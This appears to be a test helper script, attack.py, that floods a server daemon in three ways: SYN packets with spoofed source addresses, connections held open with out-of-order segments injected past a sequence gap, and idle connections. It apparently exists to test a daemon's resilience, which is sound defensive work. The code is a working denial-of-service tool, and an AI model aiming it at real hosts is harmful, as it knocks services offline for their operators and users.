#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""What floods a server through the daemon; ends by itself. Only inside the test's own namespaces. HOSTS are addresses
of the server, IPv4 or IPv6, with commas between them; each gets as much as the others.

attack.py syns HOSTS PREFIXES PORT COUNT [A_SECOND]
                                             SYNs from random addresses (the PREFIX of the host's family and a number
                                             from 20 to 249), random ports; prints how many left
attack.py holes HOSTS PORT COUNT SECONDS     connections, each with one segment beyond a hole, held open for so long;
                                             prints how many stand, of each host, as JSON, when it begins to wait
attack.py idle HOSTS PORT COUNT SECONDS      connections that say nothing, likewise
"""
import collections
import json
import random
import resource
import socket
import struct
import sys
import time

TCP_REPAIR, TCP_REPAIR_QUEUE, TCP_QUEUE_SEQ = 19, 20, 21
RECV_QUEUE, SEND_QUEUE, REPAIR_OFF_NO_PROBE = 1, 2, -1
SYN, PSH, ACK = 0x02, 0x08, 0x10
HOLE = 20000  # bytes; within the first window that a server offers
OPENING_SECONDS = 6


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def family_of(host):
    return socket.AF_INET6 if ":" in host else socket.AF_INET


def ip_head(src, dst, length):
    """In front of so many bytes of TCP; the kernel fills in the checksum of IPv4's own."""
    if len(src) == 16:
        return struct.pack(">IHBB16s16s", 6 << 28, length, socket.IPPROTO_TCP, 64, src, dst)
    return struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + length, 0, 0, 64, socket.IPPROTO_TCP, 0, src, dst)


def packet(src, dst, ports, numbers, flags, data=b""):
    """From and to packed addresses of one family."""
    head = struct.pack(">HHIIBBHHH", *ports, *numbers, 5 << 4, flags, 64240, 0, 0)
    pseudo = src + dst + struct.pack(">II", len(head) + len(data), socket.IPPROTO_TCP)
    odd = b"\0" * (len(data) % 2)
    head = head[:16] + struct.pack(">H", checksum(pseudo + head + data + odd)) + head[18:]
    return ip_head(src, dst, len(head) + len(data)) + head + data


class Raw:
    """Sends whole packets to one host."""

    def __init__(self, host):
        self.family, self.to = family_of(host), (host, 0)
        self.packed = socket.inet_pton(self.family, host)
        self.socket = socket.socket(self.family, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def address(self, prefix, number):
        return socket.inet_pton(self.family, prefix + (f"{number:x}" if self.family == socket.AF_INET6 else str(number)))

    def send(self, src, *fields):
        self.socket.sendto(packet(src, self.packed, *fields), self.to)


def keep_pace(begin, sent, a_second):
    ahead = begin + sent / a_second - time.monotonic()
    if ahead > 0.002:
        time.sleep(ahead)


def syns(hosts, prefixes, port, count, a_second="inf"):
    ways = [(raw, [raw.address(prefix, n) for n in range(20, 250)])
            for raw, prefix in zip(map(Raw, hosts), prefixes.split(","))]
    sent, begin = 0, time.monotonic()
    for i in range(int(count)):
        keep_pace(begin, i, float(a_second))
        raw, sources = ways[i % len(ways)]
        ports = random.randrange(1024, 65536), int(port)
        try:
            raw.send(random.choice(sources), ports, (random.getrandbits(32), 0), SYN)
            sent += 1
        except OSError:
            time.sleep(0.001)  # the device's queue is full
    print(sent, flush=True)


def numbers(one):
    """What the kernel would send next, and what it expects."""
    one.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
    found = []
    for queue in (SEND_QUEUE, RECV_QUEUE):
        one.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_QUEUE, queue)
        found.append(one.getsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ) & 0xffffffff)
    one.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, REPAIR_OFF_NO_PROBE)
    return found


def beyond_a_hole(raw, one):
    (src, src_port), (_, dst_port) = one.getsockname()[:2], one.getpeername()[:2]
    seq, ack = numbers(one)
    raw.send(socket.inet_pton(raw.family, src), (src_port, dst_port), ((seq + HOLE) & 0xffffffff, ack), PSH | ACK, b"x" * 100)


def connections(hosts, port, count):
    """As many as stand after a while, as pairs: socket, host."""
    waiting, end = [], time.monotonic() + OPENING_SECONDS
    for i in range(int(count)):
        host = hosts[i % len(hosts)]
        one = socket.socket(family_of(host))
        one.setblocking(False)
        one.connect_ex((host, int(port)))
        waiting.append((one, host))
    stands = []
    while waiting and time.monotonic() < end:
        left = []
        for one, host in waiting:
            try:
                one.getpeername()
                stands.append((one, host))
            except OSError:
                left.append((one, host))
        waiting = left
        time.sleep(0.1)
    return stands


def tell_and_wait(stands, seconds):
    print(json.dumps(collections.Counter(host for _, host in stands)), flush=True)
    time.sleep(float(seconds))


def holes(hosts, port, count, seconds):
    raws = {host: Raw(host) for host in hosts}
    stands = connections(hosts, port, count)
    for one, host in stands:
        beyond_a_hole(raws[host], one)
    tell_and_wait(stands, seconds)


def idle(hosts, port, count, seconds):
    tell_and_wait(connections(hosts, port, count), seconds)


hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 16384), hard))
{"syns": syns, "holes": holes, "idle": idle}[sys.argv[1]](sys.argv[2].split(","), *sys.argv[3:])
